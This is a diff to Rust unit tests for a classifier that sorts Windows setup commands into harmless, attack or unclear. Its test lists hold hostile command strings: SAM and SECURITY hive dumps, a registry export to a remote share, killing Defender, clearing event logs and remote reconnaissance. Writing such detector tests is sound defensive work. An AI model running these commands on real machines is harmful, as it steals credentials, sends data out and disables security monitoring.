@@ -1,7 +1,7 @@
 //! What commands do.
 
 use super::{Deed, judge};
-use crate::evidence::windows::{FirstCommand, Language};
+use crate::evidence::windows::{FirstCommand, Language, Occasion};
 use crate::policy::checks::windows::testing::with_context;
 
 fn command(text: &str, language: Language) -> FirstCommand {
@@ -11,11 +11,13 @@ fn command(text: &str, language: Language) -> FirstCommand {
         language,
         certain: true,
         followed: false,
+        missing: None,
         writes: Vec::new(),
         reads: Vec::new(),
         piped: false,
         instead: None,
         is_last: true,
+        waited: 0,
     }
 }
 
@@ -35,6 +37,12 @@ fn usual_commands_harm_nobody() {
         r"powershell -File C:\Windows\Setup\Scripts\more.ps1",
         r#"reg add "HKLM\SOFTWARE\My App" /v Installed /t REG_DWORD /d 1 /f"#,
         r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
+        r"reg export HKLM\SOFTWARE\My C:\Windows\Temp\my.log /y",
+        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU /v AUOptions /t REG_DWORD /d 3 /f",
+        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Memory Management" /v PagingFiles /d "C:\pagefile.sys 0 0" /f"#,
+        r"cscript //nologo C:\Windows\System32\slmgr.vbs /ato",
+        r"echo \\server\share",
+        "netsh interface show interface",
         r"reg add HKLM\SOFTWARE\Microsoft\ServerManager /v DoNotOpenServerManagerAtLogon /t REG_DWORD /d 1 /f",
         "timeout /t 5",
         "ping -n 3 127.0.0.1",
@@ -160,6 +168,10 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\x.exe" /v Debugger /d y"#,
         "taskkill /f /im WinAgent.exe",
         r"rd /s /q C:\WinAgent",
+        r"reg export HKLM\SAM C:\Windows\Temp\s.log",
+        r"reg export \\.\HKEY_LOCAL_MACHINE\SECURITY\Policy C:\s.reg /y",
+        r"reg save HKLM\SAM C:\s",
+        r"reg export HKLM\SOFTWARE \\203.0.113.9\x\s.reg",
         "taskkill /f /im MsMpEng.exe",
     ];
     let unclear = [
@@ -172,6 +184,25 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         "curl http://203.0.113.7/",
         "set path=C:\\x",
         r"call D:\x.cmd",
+        r"C:\x\foo.bat",
+        r#"powershell -OutputFormat Text -c "net user" C:\none.ps1"#,
+        r"reg export HKLM\SOFTWARE\kit C:\x.hta /y",
+        r"reg query \\203.0.113.9\HKLM\SOFTWARE",
+        r"dir \\203.0.113.9\x",
+        r"type //203.0.113.9/x/a",
+        r"mkdir \\?\UNC\203.0.113.9\x",
+        r"find /v x \\203.0.113.9\x\a",
+        r"net view \\203.0.113.9",
+        r"net time \\203.0.113.9 /set /y",
+        "tasklist /s 203.0.113.9",
+        "systeminfo /s 203.0.113.9 /u x /p y",
+        "taskkill /f /im YDService.exe",
+        "taskkill /f /im BaradAgent.exe",
+        r"netsh interface portproxy add v4tov4 listenport=1 connectaddress=203.0.113.9 show",
+        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU /v NoAutoUpdate /t REG_DWORD /d 1 /f",
+        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU /v AUOptions /t REG_DWORD /d 1 /f",
+        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Config /v MaxPosPhaseCorrection /t REG_DWORD /d 0 /f",
+        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Memory Management" /v PagingFiles /d "C:\WinAgent\WinAgent.exe 1 1" /f"#,
         r"del /q C:\Windows\System32\x.dll",
         "netsh interface ip set dns x static 203.0.113.9",
         "sc config cloudbase-init start= demand",
@@ -301,6 +332,8 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         }
         for text in [
             "$x.Invoke()",
+            r"Get-Content \\203.0.113.9\x\a",
+            "Get-Service -ComputerName 203.0.113.9",
             "[Console]::Beep()",
             "Foo-Bar",
             "Get-Foo",
@@ -334,6 +367,83 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         ] {
             let deed = judge(context, &command(text, Language::PowerShell));
             assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
+        }
+    });
+}
+
+#[test]
+fn what_runs_again_and_again_changes_nothing() {
+    use super::deed as of;
+    with_context(|context| {
+        for text in [
+            "shutdown /r /t 0",
+            "wevtutil cl System",
+            r"wevtutil sl Security /ms:1",
+            "net accounts /maxpwage:unlimited",
+            "net stop W32Time",
+            "sc config RemoteRegistry start= disabled",
+            "taskkill /f /im explorer.exe",
+            r"reg add HKLM\SOFTWARE\My /v x /t REG_DWORD /d 1 /f",
+            "bcdedit /timeout 10",
+            "netsh winsock reset",
+            "ipconfig /release",
+            r"del /q C:\Windows\Panther\unattend.xml",
+        ] {
+            let again = of(context, text, Language::Command, Occasion::Boot);
+            assert!(matches!(again, Deed::Unclear(_)), "{text}: {again:?}");
+        }
+        let once = of(
+            context,
+            "wevtutil cl System",
+            Language::Command,
+            Occasion::FirstBoot,
+        );
+        assert_eq!(once, Deed::Harmless);
+        for text in [
+            "echo x",
+            "sc start W32Time",
+            "net start W32Time",
+            "w32tm /resync",
+            r"reg query HKLM\SOFTWARE",
+            "ipconfig /all",
+            r"del /q C:\Windows\Temp\*",
+            r"echo x >> C:\Windows\Temp\a.log",
+            "timeout /t 5 & echo x",
+        ] {
+            let again = of(context, text, Language::Command, Occasion::Logon);
+            assert_eq!(again, Deed::Harmless, "{text}");
+        }
+        for text in [
+            "Set-ExecutionPolicy RemoteSigned -Force",
+            "Stop-Service W32Time",
+            "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True",
+        ] {
+            let again = of(context, text, Language::PowerShell, Occasion::Boot);
+            assert!(matches!(again, Deed::Unclear(_)), "{text}: {again:?}");
+        }
+        for text in ["Get-Date", "Start-Service W32Time", "Start-Sleep 3"] {
+            let again = of(context, text, Language::PowerShell, Occasion::Boot);
+            assert_eq!(again, Deed::Harmless, "{text}");
+        }
+        // What is written stands behind the command.
+        let text = r"echo calc > C:\x.bat";
+        let written = of(context, text, Language::Command, Occasion::FirstBoot);
+        assert!(matches!(written, Deed::Unclear(_)), "{written:?}");
+    });
+}
+
+#[test]
+fn waits_are_summed_and_a_missing_script_is_a_fact() {
+    with_context(|context| {
+        let mut ping = command("ping -n 600 127.0.0.1", Language::Command);
+        assert_eq!(judge(context, &ping), Deed::Harmless);
+        ping.waited = 1200;
+        assert!(matches!(judge(context, &ping), Deed::Unclear(_)));
+        for text in [r"C:\x\foo.bat", r"powershell -File C:\x\foo.ps1"] {
+            let mut call = command(text, Language::Command);
+            assert!(matches!(judge(context, &call), Deed::Unclear(_)), "{text}");
+            call.missing = Some(r"C:\x\foo.bat".into());
+            assert_eq!(judge(context, &call), Deed::Harmless, "{text}");
         }
     });
 }
